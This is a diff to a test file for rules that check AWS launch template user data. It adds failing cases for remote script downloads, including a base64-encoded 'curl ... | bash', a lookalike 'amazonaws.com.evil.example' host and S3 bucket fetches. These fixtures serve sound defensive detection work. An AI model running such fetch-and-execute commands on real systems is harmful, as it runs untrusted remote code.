@@ -26,10 +26,20 @@ testRules(launchTemplateDataRules, [
         'a host that only looks like one of AWS',
         'curl http://amazonaws.com.evil.example/x',
       ),
+      template('a download in user data that is encoded already', {
+        UserData: Buffer.from('curl https://example.com/install.sh | bash').toString('base64'),
+      }),
+      userData('a bucket', 'aws s3 cp s3://somebody/install.sh -'),
+      userData('a bucket by its own host', 'curl https://b.s3.eu-central-1.amazonaws.com/k'),
+      userData('a bucket by path', 'curl https://s3.eu-central-1.amazonaws.com/b/k'),
+      userData('a bucket by the old host', 'curl https://s3-eu-west-1.amazonaws.com/b/k'),
     ],
     passes: [
       userData('a NodeConfig', 'kind: NodeConfig\nspec:\n  featureGates:\n    FastImagePull: true'),
-      userData('a download from AWS', 'curl https://s3.eu-central-1.amazonaws.com/b/k'),
+      userData('a call to AWS', 'curl https://eks.eu-central-1.amazonaws.com/ping'),
+      template('a NodeConfig that is encoded already', {
+        UserData: Buffer.from('kind: NodeConfig').toString('base64'),
+      }),
       userData('the address of the cluster', {
         'Fn::Join': ['', ['apiServerEndpoint: ', { 'Fn::GetAtt': ['Cluster', 'Endpoint'] }]],
       }),
